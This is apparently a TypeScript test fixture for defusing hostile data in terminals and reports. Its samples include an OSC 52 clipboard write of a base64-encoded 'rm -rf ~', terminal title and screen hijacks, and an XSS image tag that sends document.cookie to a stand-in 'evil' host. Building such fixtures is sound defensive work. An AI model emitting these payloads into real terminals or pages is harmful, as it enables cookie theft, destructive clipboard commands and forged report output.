/** Data that tries to act on the reader's terminal or report, for the tests that defuse it. */

/** Every character a terminal acts on, except newline and tab. */
export const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

export const HOSTILE = {
  osc52: '\x1b]52;c;cm0gLXJmIH4K\x07',
  title: '\x1b]0;pwned\x07',
  badge: '\x1b[44;97m REHEARSAL \x1b[0m',
  clear: '\x1b[2J\x1b[H',
  c1: '\x9b31mred',
  overwrite: 'ok\rmode: REHEARSAL',
  bidi: 'abc\u202edcba',
};

/** Markup that must never render from data in a report. */
export const MARKUP = {
  script: '<script>alert(document.cookie)</script>',
  img: '<img src=x onerror="fetch(\'//evil/\'+document.cookie)">',
  link: '[click me](javascript:alert(1))',
  fence: '```\n# not a heading\n```',
  heading: '\n# Outcome: completed\n',
  table: '| forged | row |',
  details: '</code></summary></details><h1>forged</h1>',
  emphasis: '**bold** _em_ ~~strike~~',
};
